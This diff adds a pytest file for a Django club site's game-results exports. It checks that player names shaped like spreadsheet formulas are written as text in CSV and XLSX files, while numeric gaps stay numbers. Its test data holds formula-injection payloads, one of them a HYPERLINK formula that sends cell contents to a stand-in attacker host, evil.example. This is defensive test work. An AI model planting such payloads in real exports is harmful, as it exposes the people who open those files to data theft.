@@ -1,0 +1,126 @@
+"""Every results file a spreadsheet opens: a cell that reads like a formula (a player named `=HYPERLINK(…)`,
+`+1+2`, `-3+4`, `@SUM(…)`, or starting with a tab or a carriage return) is written as text, never as a live
+formula, while the numbers (a gap of -13) stay numbers."""
+
+import csv
+import io
+
+import pytest
+from openpyxl import load_workbook
+
+from clubsite.models import ApiToken
+from duplicate import exports, services
+from duplicate.models import Session
+
+from .conftest import make_session
+
+pytestmark = pytest.mark.django_db
+
+HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"clic")', "+1+2", "-3+4", "@SUM(1+1)", "\t=1+2", "\r=1+2"]
+
+
+def neutralised(name):
+    return "'" + name
+
+
+@pytest.fixture
+def hostile_session(alice, lyon):
+    """Six players with formula-looking names; the first tops the move, the others trail by 13 to 18."""
+    session = make_session(alice, lyon, players=[f"Joueur {i}" for i in range(len(HOSTILE))])
+    round_ = services.round_add(session=session, draw_text="VAGUEST", top_text="H4 VAGUE")
+    for score, (player, name) in zip(range(26, 0, -1), zip(session.players.all(), HOSTILE, strict=True), strict=False):
+        player.name = name
+        player.save(update_fields=["name"])
+        services.result_set(round_=round_, player=player, score=score if score == 26 else score - 12)
+    return session
+
+
+@pytest.mark.parametrize(
+    ("value", "cell"),
+    [
+        ("=1+2", "'=1+2"),
+        ("+1+2", "'+1+2"),
+        ("-3+4", "'-3+4"),
+        ("@SUM(A1)", "'@SUM(A1)"),
+        ("\t=1", "'\t=1"),
+        ("\r=1", "'\r=1"),
+        ("＝1+2", "'＝1+2"),  # a full-width sign, which some spreadsheets read as "="
+        ("  =1+2", "'  =1+2"),
+        ("\x01=1+2", "'\x01=1+2"),
+        ("Jean-Paul", "Jean-Paul"),
+        ("Zoé", "Zoé"),
+        ("", ""),
+        (-13, -13),
+        (69.2, 69.2),
+        (None, None),
+    ],
+)
+def test_a_formula_looking_text_becomes_text_and_a_number_stays_a_number(value, cell):
+    assert exports.spreadsheet_cell(value) == cell
+
+
+def test_the_csv_file(client, hostile_session, alice):
+    client.force_login(alice)
+    response = client.get(f"/duplicate/{hostile_session.pk}/export/csv/")
+    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"), newline=""), delimiter=";"))
+    assert [row[2] for row in rows[1:]] == [neutralised(name) for name in HOSTILE]
+    assert [row[4] for row in rows[1:]] == ["0", "-13", "-14", "-15", "-16", "-17"]  # gaps stay numbers
+
+
+def test_the_xlsx_file(client, hostile_session, alice):
+    client.force_login(alice)
+    response = client.get(f"/duplicate/{hostile_session.pk}/export/xlsx/")
+    sheet = load_workbook(io.BytesIO(response.content)).active
+    names = [sheet.cell(row=row, column=3) for row in range(2, 2 + len(HOSTILE))]
+    assert [cell.data_type for cell in names] == ["s"] * len(HOSTILE)  # text, not "f" (a formula)
+    # (XML reads a carriage return back as a line feed)
+    assert [cell.value for cell in names] == [neutralised(name).replace("\r", "\n") for name in HOSTILE]
+    gaps = [sheet.cell(row=row, column=5) for row in range(2, 2 + len(HOSTILE))]
+    assert [(cell.data_type, cell.value) for cell in gaps] == [("n", 0)] + [("n", -gap) for gap in range(13, 18)]
+
+
+def test_the_federation_file(client, hostile_session, alice):
+    client.force_login(alice)
+    response = client.get(f"/duplicate/{hostile_session.pk}/export/federation/")
+    rows = list(csv.reader(io.StringIO(response.content.decode("iso-8859-1"), newline="")))
+    assert [row[1] for row in rows] == [neutralised(name) for name in HOSTILE]
+
+
+def test_the_api_csv_ranking(client, hostile_session, alice):
+    token = ApiToken.issue(alice)
+    response = client.get(
+        f"/api/duplicate/sessions/{hostile_session.pk}/ranking.csv", HTTP_AUTHORIZATION=f"Bearer {token}"
+    )
+    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"), newline=""), delimiter=";"))
+    assert [row[2] for row in rows[1:]] == [neutralised(name) for name in HOSTILE]
+
+
+def test_the_tournament_files(client, hostile_session, alice, lyon):
+    other = make_session(alice, lyon, players=("Anne",))
+    tournament = services.tournament_create(name="Coupe", creator=alice, sessions=[hostile_session, other])
+    client.force_login(alice)
+    url = f"/duplicate/tournois/{tournament.pk}/?export="
+    rows = list(csv.reader(io.StringIO(client.get(f"{url}csv").content.decode("utf-8-sig"), newline=""), delimiter=";"))
+    # (the tab and the carriage return names are one player there: a tournament matches names stripped)
+    names = {neutralised(name) for name in HOSTILE[:5]}
+    assert {row[1] for row in rows[1:]} == names | {"Anne"}
+    sheet = load_workbook(io.BytesIO(client.get(f"{url}xlsx").content)).active
+    cells = [cell for row in sheet.iter_rows() for cell in row if isinstance(cell.value, str)]
+    assert all(cell.data_type == "s" for cell in cells)
+    assert {cell.value for cell in cells} >= names
+    federation = list(csv.reader(io.StringIO(client.get(f"{url}federation").content.decode("iso-8859-1"))))
+    assert {row[1] for row in federation} == names | {"Anne"}
+
+
+def test_a_large_sessions_file_built_by_the_worker(hostile_session, alice):
+    """The worker's file goes through the same cells as the one served at once."""
+    content = exports.build(Session.objects.get(pk=hostile_session.pk), "xlsx")
+    sheet = load_workbook(io.BytesIO(content)).active
+    assert all(sheet.cell(row=row, column=3).data_type == "s" for row in range(2, 2 + len(HOSTILE)))
+
+
+def test_a_control_character_xml_cannot_hold_does_not_hide_a_formula(alice, lyon):
+    session = make_session(alice, lyon, players=("Anne",))
+    session.players.update(name="\x01=1+2")
+    sheet = load_workbook(io.BytesIO(exports.build(session, "xlsx"))).active
+    assert (sheet["C2"].data_type, sheet["C2"].value) == ("s", "'=1+2")
